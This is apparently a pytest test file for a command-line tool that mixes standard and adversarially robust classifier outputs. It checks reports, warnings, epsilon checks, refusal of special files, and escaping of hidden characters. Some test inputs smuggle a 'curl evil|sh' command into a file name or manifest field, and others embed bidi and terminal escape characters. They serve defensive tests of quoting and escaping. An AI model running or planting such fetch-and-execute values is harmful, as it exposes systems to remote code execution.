"""What the commands say of what they read: counts and accuracies, warnings, hidden text, radii in levels."""

from __future__ import annotations

import json
import os
import shlex

import numpy as np
import pytest

from mnuts_core import LogitBundle, MixConfig, MixParams
from tests.cli.conftest import make_bundle
from tests.reference import softmax

POINT = ("--s", 1, "--p", 1, "--c", 0, "--beta", 0.9)


def arrays(bundle: LogitBundle) -> dict[str, np.ndarray]:
    return {name.replace(".", "_"): array for name, array in bundle.tensors().items()}


@pytest.fixture
def probabilities(toy, tmp_path):
    """The toy bundle, its logits through a softmax."""
    own = arrays(LogitBundle.load(toy))
    own = {name: softmax(array) if name.endswith("logits") else array for name, array in own.items()}
    return LogitBundle.from_arrays(**own, name="p").save(tmp_path / "p.safetensors")


class TestImport:
    def test_counts_and_accuracies_are_reported(self, mnuts, toy, tmp_path):
        bundle = LogitBundle.load(toy)
        np.savez(tmp_path / "x.npz", **arrays(bundle))
        code, out, err = mnuts("import", tmp_path / "x.npz", "--out", tmp_path / "y.safetensors")
        counts = np.bincount(bundle.clean_labels)
        assert (code, err) == (0, "")
        assert f"120 clean, 120 attacked · 5 classes · {counts.min()} to {counts.max()} clean images" in out
        right = {
            model: bundle.tensors()[f"clean.{model}_logits"].argmax(1) == bundle.clean_labels
            for model in ("std", "rob")
        }
        at_points = bundle.attacked.rob_logits.argmax(1) == bundle.attacked.labels
        for found in (right["std"], right["rob"], at_points & right["rob"][bundle.attacked.index]):
            assert f"{100 * found.mean():.2f} [" in out

    def test_json(self, mnuts, toy, tmp_path):
        bundle = LogitBundle.load(toy)
        np.savez(tmp_path / "x.npz", **arrays(bundle))
        answer = mnuts("import", tmp_path / "x.npz", "--out", tmp_path / "y.safetensors", "--json").out
        card = json.loads(answer)
        assert card["images_per_class"] == np.bincount(bundle.clean_labels).tolist()
        assert (card["bundle"]["n_clean"], card["bundle"]["n_attacked"]) == (120, 120)
        assert card["figures"] == json.loads(mnuts("info", toy, "--json").out)["figures"]
        assert card["warnings"] == []

    def test_what_is_to_be_copied_is_quoted(self, mnuts, toy, tmp_path):
        np.savez(tmp_path / "x.npz", **arrays(LogitBundle.load(toy)))
        target = tmp_path / "y; curl evil|sh.safetensors"
        out = mnuts("import", tmp_path / "x.npz", "--out", target).out
        assert shlex.split(out.partition("look at it with: ")[2].replace("\n", "")) == [
            "mnuts",
            "info",
            str(target),
        ]


class TestWarnings:
    TEXT = "rows are probabilities"

    def test_of_info_search_and_remix(self, mnuts, toy, probabilities):
        for words in (("info",), ("search", "--steps", 2), ("remix", *POINT)):
            command, *options = words
            assert mnuts(command, toy, *options).err.count(self.TEXT) == 0
            assert mnuts(command, probabilities, *options).err.count(self.TEXT) == 2
            warnings = json.loads(mnuts(command, probabilities, *options, "--json").out)
            found = warnings.get("warnings", []) + warnings.get("mix", {}).get("warnings", [])
            assert sum(self.TEXT in text for text in found) == 2

    def test_of_import(self, mnuts, probabilities, tmp_path):
        np.savez(tmp_path / "x.npz", **arrays(LogitBundle.load(probabilities)))
        result = mnuts("import", tmp_path / "x.npz", "--out", tmp_path / "y.safetensors")
        assert result.code == 0
        assert result.err.count(self.TEXT) == 2

    def test_a_configuration_carries_them(self, mnuts, probabilities, tmp_path):
        mnuts("export", probabilities, *POINT, "--out", tmp_path / "mix.json")
        assert sum(self.TEXT in text for text in MixConfig.load(tmp_path / "mix.json").warnings) == 2


class TestHiddenText:
    @pytest.fixture
    def bundle(self, toy, tmp_path):
        manifest = LogitBundle.load(toy).manifest
        evil = "a\u202eb\x1b[2J\u2028\nseal  whole"
        changes = {
            "name": evil,
            "classes": (evil, "\u200f", "c", "d", "e"),
            "data": manifest.data.model_copy(update={"name": evil, "source": evil}),
            "std_model": manifest.std_model.model_copy(update={"spec": f"demo:digits/std; {evil}"}),
            "command": f"curl evil|sh {evil}",
            "versions": {evil: evil},
        }
        own = arrays(LogitBundle.load(toy))
        bundle = LogitBundle.from_arrays(**own, manifest=manifest.model_copy(update=changes))
        return bundle.save(tmp_path / "evil.safetensors")

    @pytest.mark.parametrize("command", [("info",), ("remix", *POINT), ("search", "--steps", 2)])
    def test_is_shown_escaped_in_tables_and_json(self, mnuts, bundle, command):
        name, *options = command
        for more in ((), ("--json",)):
            code, out, err = mnuts(name, bundle, *options, *more)
            assert code == 0
            assert r"\u202e" in out
            assert all(char.isprintable() for char in (out + err).replace("\n", ""))

    def test_in_errors(self, mnuts, tmp_path):
        code, _, err = mnuts("info", tmp_path / "a\u202e\nb.safetensors")
        assert code == 2
        assert err.count("\n") == 1
        assert r"a\u202e" in err
        assert err.strip().isprintable()


class TestRadii:
    BUILD = ("build", "--std", "x", "--rob", "x", "--data", "x", "--out", "b.safetensors")

    @pytest.mark.parametrize(
        ("norm", "eps", "limit"), [("Linf", "8", 1), ("linf", "1", 1), ("L2", "128", 10)]
    )
    def test_levels_are_asked_about_before_anything_is_loaded(self, mnuts, tmp_path, norm, eps, limit):
        config = MixConfig.from_params(MixParams(s=1, p=1, c=0, alpha=0.9)).save(tmp_path / "mix.json")
        evaluate = ("evaluate", config, "--std", "x", "--rob", "x", "--data", "x")
        for words in (self.BUILD, evaluate):
            code, out, err = mnuts(*words, "--norm", norm, "--eps", eps)
            assert (code, out) == (2, "")
            assert f"eps must be below {limit} for " in err
            assert f"was {eps}/255 meant?" in err


class TestSpecialFiles:
    @pytest.mark.parametrize("command", ["info", "search", "evaluate", "import", "report"])
    def test_are_refused_at_once(self, mnuts, toy, tmp_path, command):
        pipe = tmp_path / "pipe"
        os.mkfifo(pipe)
        words = {
            "evaluate": (pipe, "--std", "x", "--rob", "x", "--data", "x"),
            "import": (pipe, "--out", tmp_path / "y.safetensors"),
            "report": (toy, "--config", pipe),
        }
        code, out, err = mnuts(command, *words.get(command, (pipe,)))
        assert (code, out, err.count("\n")) == (2, "", 1)


def test_the_toy_bundle_is_sound():
    assert make_bundle().manifest.sealed
